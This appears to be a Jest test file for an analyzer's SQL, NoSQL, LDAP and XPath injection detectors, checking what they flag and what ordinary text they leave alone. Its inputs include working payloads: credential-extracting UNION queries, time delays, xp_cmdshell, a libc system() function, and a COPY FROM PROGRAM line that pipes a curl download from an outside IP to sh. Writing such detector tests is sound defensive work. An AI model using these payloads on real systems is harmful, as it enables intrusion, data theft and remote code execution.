import { InspectedValue, LEVEL_THRESHOLDS, inspectValue, ruleScore, type ValueLocation } from '@/runtime/analyzer/engine/detection';
import { ldapInjectionPack } from '@/runtime/analyzer/engine/detection/rules/ldapi';
import { noSqlInjectionPack } from '@/runtime/analyzer/engine/detection/rules/nosqli';
import { sqliPack } from '@/runtime/analyzer/engine/detection/rules/sqli';
import { xpathInjectionPack } from '@/runtime/analyzer/engine/detection/rules/xpathi';

const PACKS = [sqliPack, noSqlInjectionPack, ldapInjectionPack, xpathInjectionPack];
const classes = (raw: string, location: ValueLocation = 'query', name = 'q'): string[] => [
  ...new Set(inspectValue(new InspectedValue(location, name, raw), PACKS).map((r) => r.classification)),
];
const ids = (raw: string, location: ValueLocation = 'query', name = 'q'): number[] =>
  inspectValue(new InspectedValue(location, name, raw), [sqliPack]).map((r) => r.id);
/** The lowest detection level whose threshold the SQL rules a value matches reach (each rule once); 0 when none. */
const levelOf = (raw: string, location: ValueLocation = 'query'): number => {
  const rules = new Map(inspectValue(new InspectedValue(location, 'q', raw), [sqliPack]).map((r) => [r.id, ruleScore(r)]));
  const score = [...rules.values()].reduce((sum, value) => sum + value, 0);
  return ([1, 2, 3, 4] as const).find((level) => score >= LEVEL_THRESHOLDS[level]) ?? 0;
};

describe('SQL injection pack', () => {
  it.each([
    ["1' OR '1'='1", 'raw'],
    ['1%27%20OR%20%271%27%3D%271', 'url'],
    ['1%2527%2520OR%2520%25271%2527%253D%25271', 'double'],
    ['1%u0027%u0020OR%u0020%u00271%u0027%u003D%u00271', 'unicode'],
    ['1\\u0027 OR \\u00271\\u0027=\\u00271', 'js escape'],
    ['1&#39; OR &#39;1&#39;=&#39;1', 'html entities'],
  ])('finds a break-out in %j (%s)', (raw) => {
    expect(ids(raw)).toContain(100102);
  });

  it.each<ValueLocation>(['query', 'body_form', 'body_json', 'header', 'cookie', 'query_name', 'body_json_key'])('finds it in %s', (location) => {
    expect(classes("x'; DROP TABLE users; --", location)).toEqual(['SqlInjection']);
  });

  it.each([
    ['1/**/AND/**/1=1', 100102],
    ['1#x\nAND#x\n1=1', 100102],
    ["x'/**/AND/**/userid/**/IS/**/NULL;/**/--", 100102],
    ["';#x\nwaitfor#x\ndelay#x\n'0:0:2'", 100105],
    ["';--x\nwaitfor--x\ndelay--x\n'0:0:2'", 100105],
    ["' or 'a' in /**/('a')", 100102],
    // A `#` or `--` inside a block comment or a string, or MSSQL's #temp table, cuts nothing.
    ["x /*#*/waitfor delay '0:0:5'\n", 100105],
    ['1 /*--*/ and benchmark(5000000,md5(1))\n', 100105],
    ["1 and '#' and sleep(5)\n", 100105],
    ["1;select * into #t from sysobjects;waitfor delay '0:0:5'\n", 100106],
    // PostgreSQL's connections to other servers and command pipes, even in a query written whole.
    ["select * from dblink('host=10.0.4.17 port=5432 user=postgres','select card from cards') as t(n text)", 100106],
    ["1; COPY o FROM PROGRAM 'curl -s http://198.51.100.23/a|sh'; --", 100106],
    // Comments inside keywords, read as a comment-deleting filter reads them.
    ['1 and b/**/enchmar/**/k(3000000,md5(1))', 100105],
    ['-1 uni/**/on sel/**/ect 1,2', 100101],
    // ClickHouse's closing clauses after a tautology
    ["FR'/**/OR/**/1=1/**/FORMAT/**/JSON--", 100102],
    // A stacked SHOW of users (MySQL, ClickHouse, InfluxQL)
    ["dev-42'; SHOW USERS; --", 100111],
    // sqlmap's random comments inside keywords, with comments for spaces too.
    ["1'/**/UN/**/ION/**/SE/**/LECT/**/1,concat(user,char(58),pass),3/**/FROM/**/admin-- -", 100112],
  ])('reads comments used as whitespace as the database does: %j', (raw, id) => {
    expect(ids(raw)).toContain(id);
  });

  it.each([
    ['-1 UNIunionON SELselectECT 1,2,3-- -', 100101],
    ['1 ununionion seselectlect 1,2', 100101],
    ["1' uniunionon selselectect password frfromom users-- -", 100101],
  ])('reads keywords nested in themselves as a filter that deletes them once leaves them: %j', (raw, id) => {
    expect(ids(raw)).toContain(id);
  });

  it('leaves words that only contain a keyword', () => {
    expect(ids('reunion selection')).toEqual([]);
    expect(ids('unionunion selectselect')).toEqual([]);
  });

  it("reads MySQL's binary cast after a comparison as the operand it casts", () => {
    expect(ids("admin' AND password LIKE BINARY 'a%'-- -")).toContain(100102);
    expect(ids("admin' AND password = BINARY 'abc'-- -")).toContain(100102);
    expect(ids('where name like binary')).toEqual([]);
  });

  it('reads French elision before `or` as prose, unless a comparison, comment or statement end follows', () => {
    for (const text of [`"Ballon d'Or" 2024 reaction`, "Ballon d'Or 2024", "L'Or Espresso", "Côte-d'Or", "https://www.example.com/search?q=Ballon+d'Or+2024"])
      expect({ text, ids: ids(text) }).toEqual({ text, ids: [] });
    expect(ids("d'or 1=1--")).toContain(100102);
    expect(ids("x d'or '1'='1")).toContain(100110);
    expect(ids("admin' or '")).toContain(100102);
  });

  it('reads a cut or a quote fuzz in a password field as the password it is, but a condition or a pasted user-name bypass still', () => {
    for (const [name, value] of [
      ['password', "Tr0ub4dor&3!'--#"],
      ['login[pwd]', `P@ss'w0rd"--!;`],
      ['user.new_password', "Musk3t33rs' -- all for 1!"],
      ['password_confirmation', `5ecret'"`],
    ])
      expect({ name, value, ids: ids(value, 'body_form', name) }).toEqual({ name, value, ids: [] });
    expect(ids("x' or '1'='1", 'body_form', 'password')).toContain(100110);
    expect(ids("admin'--", 'body_form', 'password')).toContain(100103);
    expect(ids(`admin" #`, 'body_json', 'passwd')).toContain(100103);
    // the same cut in another field
    expect(ids("Tr0ub4dor&3!'--#", 'body_form', 'comment')).toContain(100103);
  });

  it("reads a condition opening with a literal equal to itself, then OR (an ORM raw where string), not a builder's 1=1 AND", () => {
    expect(ids("1=1 OR role='admin'")).toContain(100110);
    expect(ids("'a'='a' or 1")).toContain(100110);
    expect(ids("1=1 AND status='open'")).toEqual([]);
    expect(ids('1=2 or x')).toEqual([]);
  });

  it("reads PostgreSQL's cast of the value broken out of as part of that value", () => {
    expect(ids("88213::text AND chr(65)||chr(66)='AB'")).toContain(100102);
    expect(ids("x'::text AND chr(65)||chr(66)='AB")).toContain(100102);
    expect(ids('12::int')).toEqual([]);
    expect(ids('price::numeric and tax')).toEqual([]);
  });

  it('reads a tautology of signed numbers and rows added to an INSERT after the break-out closed its own', () => {
    expect(ids("'or-1=-1#")).toContain(100110);
    expect(ids("hello'), ('evil', (select password from users limit 1))-- -")).toContain(100103);
    expect(ids("Rock 'n' Roll (live), (remastered) -- great")).toEqual([]);
    expect(ids("it's -1 = -1 degrees")).toEqual([]);
    // a value list without a subquery, or a subquery whose list does not end in the query's own string
    expect(ids("Rock 'n', (live), 'Roll")).toEqual([]);
    // a filter comparing a field with a literal that is a logical word (Oregon, an order type)
    expect(ids("state eq 'OR'")).toEqual([]);
    expect(ids("(SalesOrderType = 'OR')")).toEqual([]);
    expect(ids("admin' or '")).toContain(100102);
    // a quoted symbol in a sentence (the commonest JSON error), not a comparison left for the query's quote
    expect(ids("SyntaxError: Unexpected token '<' in JSON at position 0")).toEqual([]);
    expect(ids("admin'='")).toContain(100102);
    expect(ids("1' > '0")).toContain(100102);
    expect(ids("x',(select password from users limit 1), y")).not.toContain(100117);
  });

  it('reads a subquery given as a column or sort key, which needs no break-out there, and not alone elsewhere', () => {
    expect(ids('(SELECT password_digest FROM users WHERE admin=true LIMIT 1)', 'query', 'column')).toContain(100117);
    expect(ids('(select 1)', 'query', 'sort')).toContain(100117);
    expect(ids('(select 1)', 'query', 'note')).not.toContain(100117);
  });

  it('reads a break-out of a backtick-quoted column name, not code spans in markdown', () => {
    expect(ids('username`=`username`-- -')).toContain(100102);
    expect(ids('id` and 1=1 -- -')).toContain(100110);
    expect(ids('use `npm ci` then `npm test`')).toEqual([]);
    expect(ids('`a` or `b`')).toEqual([]);
    // A polyglot trying each quote in turn breaks out at its backtick: the quotes before it are name characters.
    expect(ids('1\'"`)) or 1=1-- -')).toContain(100110);
    expect(ids("don't `run` this")).toEqual([]);
  });

  it('reads a role or extension created after a `;`, not the phrase of an access-control console', () => {
    expect(ids("Ops'; CREATE ROLE backup2 SUPERUSER LOGIN PASSWORD 'Bkp#2024';--")).toContain(100111);
    expect(ids("x'; CREATE EXTENSION plpython3u;--")).toContain(100111);
    expect(ids('create role manager')).toEqual([]);
  });

  it('reads each path segment as a value', () => {
    expect(ids('/view/1 or 1=1/details', 'path')).toEqual(expect.arrayContaining([100102, 100110]));
    expect(ids("/files/admin'--/x", 'path')).toContain(100103);
    expect(ids("/blog/it's-a-test/2024", 'path')).toEqual([]);
  });

  it('does not read the start of a whole document as a break-out, but a short one-line body is one value', () => {
    expect(ids(`{"a":"x'--",\n"note":"a document: its start is no value's"}`, 'body')).toEqual([]);
    expect(ids('x UNION SELECT password FROM users', 'body')).toContain(100101);
    expect(ids("' OR '1'='1' --", 'body')).toContain(100103);
    expect(ids("' OR '1'='1' --\nsecond line of a note", 'body')).not.toContain(100103);
    expect(ids(`' OR '1'='1' -- ${'and a long note '.repeat(20)}`, 'body')).not.toContain(100103);
  });

  it('keeps the keyword rules for delays, catalogs and procedures', () => {
    expect(ids('1 AND SLEEP(5)')).toContain(100105);
    expect(ids('1 AND (SELECT 1 FROM information_schema.tables)')).toContain(100106);
  });

  it.each<[string, number, number]>([
    ['5 AND 3*2=6', 100110, 1],
    ['1 AND 5-3=2', 100102, 1],
    ['1-sleep(5)', 100115, 1],
    ['1+sleep(5)', 100115, 1],
    ['1*SLEEP(5)', 100115, 1],
    ["1'-sleep(5)-'1", 100115, 1],
    ['1-(select 1 from pg_sleep(5))', 100115, 1],
    ["1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))", 100115, 1],
    ['2-(SELECT ascii(substr(password,1,1)) FROM users LIMIT 1)', 100117, 1],
    ['-1 UNION DISTINCTROW SELECT 1,2', 100101, 1],
    ['-1/**/union/**/distinctrow/**/select/**/1,2', 100101, 1],
    ["1; CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' LANGUAGE C STRICT--", 100104, 1],
    ['1; CALL sys.xp_cmdshell', 100104, 1],
    ["1' AND '{\"b\":\"x\"}'::json->>'b'='x", 100102, 1],
    ['(CASE WHEN (SELECT 1)=1 THEN name ELSE price END)', 100116, 1],
    ['IIF(1=1,1,0)', 100116, 1],
    // A test as a descending sort key, and as the sort key after a number (sqlmap's ORDER BY probes).
    ["-(SELECT CASE WHEN (SELECT substr(password,1,1) FROM nc_users LIMIT 1)='$' THEN Id ELSE Title END)", 100116, 1],
    ['1,(select case when (1=1) then 1 else 1/0 end)', 100116, 1],
    ['1 order by (select 1)', 100112, 1],
    // A bare subquery breaks out of nothing: it counts from level 2.
    ['(select 1)', 100118, 2],
  ])('finds %j (rule %d) from level %d', (raw, id, level) => {
    expect(ids(raw)).toContain(id);
    expect(levelOf(raw)).toBe(level);
  });

  it('reads arithmetic tautologies and delays in a path segment', () => {
    expect(ids('/products/5 AND 3*2=6/x', 'path')).toContain(100110);
    expect(ids('/item/1-sleep(5)', 'path')).toContain(100115);
  });

  it('reads no procedure call in a delivery note (`15:00; call 30 min ahead`): a procedure name starts with a letter', () => {
    expect(ids('Deliver Mon-Fri, 7:00-15:00; call 30 min ahead', 'body_json')).not.toContain(100104);
  });

  it.each([
    "shortcutDetails.targetId='1cFuj_Hvk6USKQakngLMtsBpda8jRYPEh' and creator='me' and trashed=false",
    'collections:"doormats" AND inventory_quantity > 0',
    "$filter=Price gt 20 and Category eq 'Books'",
    '{"query":{"bool":{"must":[{"match":{"title":"x"}}]}}}',
    "O'Reilly & Sons (London)",
    'ORDER-12345',
    'true or false and not 1=1 logic puzzle',
    'select a plan',
    'union station to times square',
    'European Union select committee report on trade',
    'order by price',
    'sleep(5) vs setTimeout javascript',
    '=IF(A1=1,1,0)',
    "CASE WHEN status='paid' THEN 1 ELSE 0 END",
    'id,name,email',
    'title, body from posts',
    'name as n, age',
    "it's a, b=c -- d",
    'begin transaction',
    'C:\\new folder\\nunion',
    'Close-up of chip on drawer lip (approx 1/4")',
    'Height 5\'11", fits (slim)',
    // sort lists without a column position, or with a comment that says something
    'score desc--',
    'title asc -- newest first',
    "Hey, where's the thing, p='x",
  ])('leaves query-language and ordinary text alone: %j', (raw) => {
    expect(classes(raw)).toEqual([]);
  });

  it.each([
    '1 union select password from users',
    '-1 union select null,null--',
    'x union select user name from dual',
    'x union select current_user',
    '1 union all select case when 1 then 2 end',
    '1 union select',
  ])('reads a UNION SELECT whose list is columns, values, calls or nothing: %j', (raw) => {
    expect(ids(raw)).toContain(100101);
  });

  it('reads a double-quote break-out after a digit that compares and cuts the query, where an inch mark would be prose', () => {
    expect(ids('-1" OR 3*2*1=6 AND 000569=000569 --')).toContain(100102);
    expect(ids('Height 5\'11", fits (slim)')).toEqual([]);
    expect(ids('27" monitor for the office')).toEqual([]);
  });

  it('reads a CASE test of the database after plain sort keys, not a CASE over columns', () => {
    expect(ids("createdAt,(CASE WHEN (SELECT substr(current_user,1,1))='p' THEN id ELSE total END)")).toContain(100116);
    expect(ids("name,price,(case when status='paid' then 1 else 0 end)")).toEqual([]);
  });

  it("reads a subquery in a select list given as a JSON array's element (Zabbix's selectRole[])", () => {
    const value = new InspectedValue(
      'body_json',
      'params.selectRole[]',
      'roleid, (select sessionid from sessions where userid=1 and status=0 limit 1) as name',
    );
    expect(inspectValue(value, [sqliPack]).map((r) => r.id)).toContain(100119);
    expect(inspectValue(new InspectedValue('body_json', 'params.selectRole[]', 'roleid, name'), [sqliPack])).toEqual([]);
  });

  it.each([
    ['Pull numbers from the Looker "Exec KPIs" dashboard.'],
    ['Send the "Exec Summary" deck to the board'],
    ["Update the 'exec team' slides before Friday"],
    ["exec summary 'Q3' attached"],
  ])('reads an executive in quoted prose (%s) as no procedure call', (text) => {
    expect(ids(text, 'body_json', 'notes')).toEqual([]);
  });

  it.each([
    ["x' exec sp_addlogin 'eve'--"],
    ["1' exec master.dbo.xp_dirtree '\\\\a.b\\c'--"],
    ["'; exec audit_log 'x'--"],
    ["x' exec p 'a', 'b';--"],
    ["' execute immediate 'drop table x'"],
    ["a' exec @cmd"],
  ])('reads %s as a statement after a break-out', (payload) => {
    expect(ids(payload)).toContain(100111);
  });

  it('leaves a code search for `exec(` and an OData path whose string literal holds slashes, not a call or a break-out in a path', () => {
    expect(ids('exec(')).toEqual([]);
    expect(ids("exec('xp_cmdshell ''dir''')")).toContain(100111);
    expect(ids("/sites/Eng/_api/web/GetFolderByServerRelativeUrl('/sites/Eng/Shared Documents/Specs')/Files/add(url='a.md',overwrite=true)", 'path')).toEqual(
      [],
    );
    expect(ids("/items('1') or ('1'='1')/x", 'path')).not.toEqual([]);
    // A file name's parentheses inside the literal are the string's too.
    expect(ids("/sites/finance/_api/web/GetFileByServerRelativeUrl('/sites/finance/Shared%20Documents/FY25%20Budget%20(Draft).xlsx')/$value", 'path')).toEqual(
      [],
    );
  });

  it('reads a token ending in a run of different quotes as a probe, not a measure or a possessive', () => {
    for (const probe of ['5\'"\\', 'abc"\'', "x'`"]) expect({ probe, ids: ids(probe) }).toEqual({ probe, ids: [100114] });
    // A metacharacter run between a scanner's markers, which find the reflection in the response.
    expect(ids('st4r7s<\'">3nd')).toEqual([100114]);
    // sqlmap's heuristic probe: quotes, parentheses, commas and dots after the value.
    for (const probe of ["3).(\"(''(,(.", '1,.\'"),("', "').\"()(.,'"]) expect({ probe, ids: ids(probe) }).toEqual({ probe, ids: [100114] });
    for (const text of ["(...)'", '"...\'"', 'Ann (ed.), "Notes", \'94']) expect({ text, ids: ids(text) }).toEqual({ text, ids: [] });
    expect(ids('it\'s "<3"')).toEqual([]);
    for (const text of ['27"', "the users'", "it''", '5\'11"']) expect({ text, ids: ids(text) }).toEqual({ text, ids: [] });
  });

  it("leaves a random URL-safe token, alone or after a short key (Google's NID cookie), whose characters read as a comparison and a comment", () => {
    const nid = '515=pruTQ1Nkm7ird06AsLcDARGD0_73ZNvt6xph--ucse1HNK6j50cI8pw-IGKt3CtkZ_tUj5q4wyyQZW9NcsQauSDMHBLiVvN5vrI2x3o';
    expect(ids(nid, 'cookie')).toEqual([]);
    expect(ids('1=1--', 'cookie')).not.toEqual([]);
    expect(ids('-1+UNION+SELECT+Password+FROM+users2', 'cookie')).not.toEqual([]);
  });

  it('reads a call that tests the database after sort keys (an error or boolean oracle), not a call over columns', () => {
    expect(ids('created_at,CAST(version() AS int)')).toContain(100116);
    expect(ids("views DESC, throwIf(substring(currentUser(),1,1)='d')")).toContain(100116);
    expect(ids('id,(extractvalue(1,(select 1)))')).toContain(100116);
    expect(ids('name,lower(title)')).toEqual([]);
    expect(ids('price desc, coalesce(stock, 0)')).toEqual([]);
    expect(ids('CAST(price AS int)')).toEqual([]);
    expect(ids('max((price))')).toEqual([]);
    expect(ids('round((a+b)*2)')).toEqual([]);
  });

  it('leaves a multi-line document in English that quotes SQL to its readers', () => {
    const post =
      'I am comparing two queries:\n\n    SELECT id FROM a\n    UNION\n    SELECT id FROM b;\n    DROP TABLE tmp;\n\nThe plan shows a HashAggregate. Is that expected?';
    expect(ids(post, 'body_form')).toEqual([]);
    expect(ids("x'; DROP TABLE users; --\nsecond line\nthird", 'body_form')).not.toEqual([]);
  });

  it('leaves a long one-line comment in English that quotes a statement, not a break-out with a few words around it', () => {
    const comment =
      "Thanks! I tried \"SELECT * FROM wp_options WHERE autoload = 'yes'\" and it returned 1,200 rows -- is that normal? Also the 'OR' in your second example seems to be a typo.";
    expect(ids(comment, 'body_form')).toEqual([]);
    // Short, or without six words of English grammar around it, a line is a value.
    expect(ids('Thanks! I tried "SELECT * FROM wp_options WHERE autoload = \'yes\'" -- normal?', 'body_form')).not.toEqual([]);
    expect(ids("nice post' UNION SELECT username, password FROM users WHERE role = 'admin' -- see the rows below", 'body_form')).not.toEqual([]);
    expect(ids("x' UNION SELECT username, password FROM users-- I think that the rows you see here would be what it was about", 'body_form')).not.toEqual([]);
  });

  it('reads a comment in another language that quotes a statement as prose too, not a payload appended to a short local value', () => {
    // Portuguese in Latin letters, Russian and Chinese around the same query
    const portuguese =
      'Tentei "SELECT nome FROM clientes WHERE cidade = \'Recife\' UNION SELECT nome FROM fornecedores" mas isso para quando uma tabela tem mais colunas, porque o UNION pede o mesmo numero';
    const russian = 'Попробуйте запрос "SELECT id, name FROM users WHERE name LIKE \'%иван%\' ORDER BY id" — он медленный без индекса по имени, добавьте его';
    const chinese =
      '我用 "SELECT * FROM orders WHERE status = \'paid\' UNION SELECT * FROM orders_2023" 合并两年的订单，结果顺序不对，请问怎么按时间排序才对呢？';
    for (const comment of [portuguese, russian, chinese]) expect({ comment, ids: ids(comment, 'body_form') }).toEqual({ comment, ids: [] });
    // a payload after a short local value, or opening with a break-out, is still read
    expect(ids("北京市朝阳区' AND SLEEP(5)-- -", 'query')).not.toEqual([]);
    expect(ids("' UNION SELECT username, password FROM users-- 这是一个很长的中文句子用来测试是否会被当成普通文本处理的情况", 'body_form')).not.toEqual([]);
  });

  it.each<[string, number]>([
    // INSERT and UPDATE contexts: a value list holding a subquery, assignments to other columns
    ["test@x.com', (SELECT password FROM users WHERE id=1))-- -", 100103],
    ["1.2.3.4', (SELECT user()))#", 100103],
    ["x', is_admin=1 WHERE username='attacker'-- -", 100103],
    // ... or leaving the last value's string for the query to close; Oracle's q'[..]' quoting
    ["hello', is_admin=1, bio='hi", 100123],
    // ... or a subquery listed among the values, the last string left open, also past the row's end
    ["x',(select password from users limit 1),'y", 100117],
    ["main',(SELECT token FROM deploy_keys LIMIT 1)),('x", 100117],
    ["x' OR username=q'[ADMIN]'--", 100102],
    // a sort list with a column position, cut by a comment: ORDER BY column counting
    ['score DESC,1 DESC-- ', 100103],
    // PostgreSQL's key existence against an array
    ["loft' OR '{\"admin\":1}'::jsonb ?| array['admin']--", 100102],
    // a comparison with a nested call on its right, a procedural block, a subquery that only waits
    ['1 AND 1=CAST(version() AS int)', 100102],
    ["'; BEGIN DBMS_LOCK.slEeP(5); end;--", 100111],
    ['(select 1 from pg_sleep(5))', 100115],
    ["(SELECT 1 WHERE 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2)))))", 100115],
    // a sort key testing the database's identity, also after a sort direction (Rails' `order(direction)`)
    ["(SELECT CASE WHEN (SUBSTRING(DB_NAME(),1,1)='m') THEN 1 ELSE 1/0 END)", 100116],
    ["asc,(SELECT CASE WHEN (SELECT substring(encrypted_password,1,1) FROM users LIMIT 1)='$' THEN 1 ELSE 1/(SELECT 0) END)", 100116],
    // ... or a subquery handed to a function where a sort key belongs
    ['RAND((SELECT ASCII(MID(password,1,1))>80 FROM users LIMIT 1))', 100111],
    // a column a calculation wraps, closed and completed (ActiveRecord's calculate)
    ["age) FROM users WHERE admin = 't';--", 100103],
    // a double-quote break-out after a number is no inch mark when it quotes again
    ['1") OR ("1"="1', 100102],
    // MySQL's \N is NULL and ends its token
    ['\\Nunion select 1,2,3-- -', 100101],
    // SQL Server reads control characters as spaces (space2mssqlblank)
    ["';\x0eEXEC\x02master..xp_dirtree\x0c'\\\\attacker.example\\share'--", 100111],
  ])('reads %j as an injection (%i) at level 1', (raw, rule) => {
    expect(ids(raw)).toContain(rule);
    expect(levelOf(raw)).toBe(1);
  });

  const inList = (raw: string, name: string): number[] => inspectValue(new InspectedValue('query', name, raw), [sqliPack]).map((r) => r.id);

  it.each<[string, string]>([
    ['id,name,(select password from users limit 1)', 'fields'],
    ['name,(SELECT TOP 1 password FROM users) AS x', 'columns'],
    ['username,password FROM users--', 'select'],
    ['*,version()', 'data[fields]'],
    // JSON:API's sparse fieldsets name the list by their first segment
    ["name,email,(SELECT password FROM users WHERE role='admin' LIMIT 1)", 'fields[users]'],
  ])('reads the select list %j in %s as column-name injection (100119)', (raw, name) => {
    expect(inList(raw, name)).toContain(100119);
  });

  it.each([
    ['Cheers, love from Paris -- xoxo', 'q'],
    ['Hi, Bob from IT -- thanks', 'comment'],
    ['Sun, sea from Spain #holiday', 'caption'],
    ['hello, user(s)', 'fields'],
    ['id,name,(select password from users limit 1)', 'q'],
  ])('reads no select list in %j (%s): a sentence, or not a columns parameter', (raw, name) => {
    expect(inList(raw, name)).not.toContain(100119);
  });

  it("reads a test after sort keys that JSON:API's `-` sorts descending, not signed keys alone", () => {
    expect(inList("-published_at,(CASE WHEN (SELECT SUBSTR(password,1,1) FROM users WHERE id=1)='a' THEN title ELSE id END)", 'sort')).toContain(100116);
    expect(inList('-published_at,+id,(CASE WHEN (SELECT 1)=1 THEN title ELSE id END)', 'sort')).toContain(100116);
    expect(inList('-published_at,-id,title', 'sort')).toEqual([]);
  });

  it.each([
    ["UserName ASC,(SELECT CASE WHEN (SUBSTRING(SYSTEM_USER,1,1)='s') THEN 1 ELSE 1/0 END)", 'a sort list ending in a test of the login'],
    ['(CASE WHEN (ASCII(SUBSTR(USER,1,1))>77) THEN report_name ELSE TO_CHAR(created_on) END)', "a sort key testing Oracle's USER"],
    ["2 AND CASE WHEN (substr(sqlite_version(),1,1)='3') THEN 1 ELSE abs(-9223372036854775808) END", 'a number, then a test of the version'],
  ])('reads %j (%s) as a conditional test of the database at level 1', (raw) => {
    expect(ids(raw)).toContain(100116);
    expect(levelOf(raw)).toBe(1);
  });

  it('reads a comparison with a call that leaks a subquery, anywhere in the value', () => {
    expect(levelOf('101:3:0::NO::P3_ID:10 AND 1=UTL_INADDR.GET_HOST_NAME((SELECT banner FROM v$version WHERE rownum=1))')).toBe(1);
    // Oracle Text's error function takes the subquery as its second argument (here inside an APEX
    // form field's JSON, whose strings are not read one by one).
    const apex = '{"pageItems":{"itemsToSubmit":[{"n":"P5_DEPTNO","v":"10 AND 1=CTXSYS.DRITHSX.SN(1,(SELECT password FROM sys.user$ WHERE name=\'SYS\'))"}]}}';
    expect(ids(apex, 'body_form', 'p_json')).toContain(100117);
    expect(levelOf(apex, 'body_form')).toBe(1);
    expect(ids('price > 10 and size = round(2,(3))')).toEqual([]);
  });

  it.each([
    ['CASE WHEN status = 1 THEN name ELSE email END', 'a column test'],
    ['name asc, created_at desc', 'plain sort keys'],
    ['user, role', 'column names'],
    ['Tom and Jerry: a case when the cat wins', 'a sentence'],
    ['drop table', 'a search for the words'],
    ['create user', 'a help-desk search'],
  ])('reads no technique in %j (%s)', (raw) => {
    expect(levelOf(raw)).toBe(0);
  });

  it.each([
    [
      "SELECT '2023' AS yr, region, SUM(amount) AS total FROM sales_2023 GROUP BY region\nUNION SELECT '2024', region, SUM(amount) FROM sales_2024 GROUP BY region\nORDER BY region;",
      "a BI tool's native query",
    ],
    [
      "-- weekly orders\nWITH w AS (\n  SELECT date_trunc('week', created_at) AS week, count(*) AS n FROM orders WHERE status <> 'x' OR 1=1\n)\nSELECT * FROM w",
      'a commented CTE',
    ],
    [
      'CREATE TABLE orders (\n  id int primary key,\n  total numeric\n);\nINSERT INTO orders VALUES (1, 9.5);\nSELECT * FROM orders;',
      "a SQL playground's schema and query",
    ],
    [
      '-- migration 42\nDROP TABLE IF EXISTS tmp_orders;\nCREATE TABLE tmp_orders AS SELECT * FROM orders;\nALTER TABLE tmp_orders ADD COLUMN note text;',
      'a migration',
    ],
  ])('leaves a query written out in lines, as a SQL editor sends it: %j (%s)', (raw) => {
    expect(ids(raw, 'body_json')).toEqual([]);
  });

  it.each([
    "1' UNION\nSELECT username, password FROM users\nWHERE '1'='1",
    "x'\nUNION SELECT password FROM users -- a\nb c",
    "EXEC master..xp_cmdshell 'whoami'\nGO\nEXEC master..xp_cmdshell 'net user'",
  ])("reads a break-out, or MSSQL's EXEC, before statements laid out in lines: %j", (raw) => {
    expect(ids(raw, 'body_json').length).toBeGreaterThan(0);
  });

  // The pack's quick check passes on `&&`, `||` and a digit's `or`/`and` before `=`, not on every
  // `=`, `&` or `|` (the URLs and query strings inside values that most of real traffic holds).
  it.each(['1Or1=1', '1and1=1', '1||1=1', '1&&1=1'])('reads the tautology %j, written without spaces', (raw) => {
    expect(ids(raw)).toContain(100110);
  });

  // InfluxQL matches a regular expression written between slashes (`host =~ /^web/`).
  it.each(["dev-42' OR tenant =~ /.*/ --", 'web" or host !~ /^x$/ --'])("reads InfluxQL's regex comparison after a break-out: %j", (raw) => {
    expect(levelOf(raw)).toBe(1);
  });

  it.each(['host =~ /^web/', 'a=~b', 'perl: $x =~ s/a/b/'])('reads a regex comparison written whole as no attack: %j', (raw) => {
    expect(ids(raw)).toEqual([]);
  });

  it.each(['https://shop.example/list?page=2&sort=price', 'a=1&b=2|c', 'utm_source=news|mail', '-(price)', '1,(2)', '-created_at,title'])(
    'reads no SQL in %j',
    (raw) => {
      expect(ids(raw)).toEqual([]);
    },
  );
});

describe('NoSQL, LDAP and XPath injection packs', () => {
  it.each([
    ['{"$ne": null}', 'NoSqlInjection'],
    ["', $or: [ {}, { 'a':'a", 'NoSqlInjection'],
    ["' } ], $comment:'x'", 'NoSqlInjection'],
    ['|| 1==1', 'NoSqlInjection'],
    ["' && this.password.match(/.*/)//", 'NoSqlInjection'],
    [';var d=new Date(); do{c=new Date();}while(c-d<1000)', 'NoSqlInjection'],
    ['*)(uid=*))(|(uid=*', 'LdapInjection'],
    ['x)(!(cn=x))(cn=*', 'LdapInjection'],
    ['(&(uid=admin)(!(&(1=0)(userPassword=q))))', 'LdapInjection'],
    ["*()|&'", 'LdapInjection'],
    ["'] | //user/password | //*['", 'XPathInjection'],
    ["lamp'] | /*[1] | /catalog/product[name='x", 'XPathInjection'],
    ["' and count(/*)=1 and '1'='1", 'XPathInjection'],
    ["admin' or //*[@id='1'] or '", 'XPathInjection'],
  ])('%j is %s', (raw, cls) => {
    expect(classes(raw)).toContain(cls);
  });

  it.each(["a['x'] | b", '//*[@id="companionbar-button"]', "//*[@id='esw-modal-container']", 'price $5 - $10', 'Smith (John)', '(555) 123-4567', 'a*b'])(
    '%j is none of them',
    (raw) => {
      expect(classes(raw, 'body_json', 'events[].xPath')).toEqual([]);
    },
  );
});
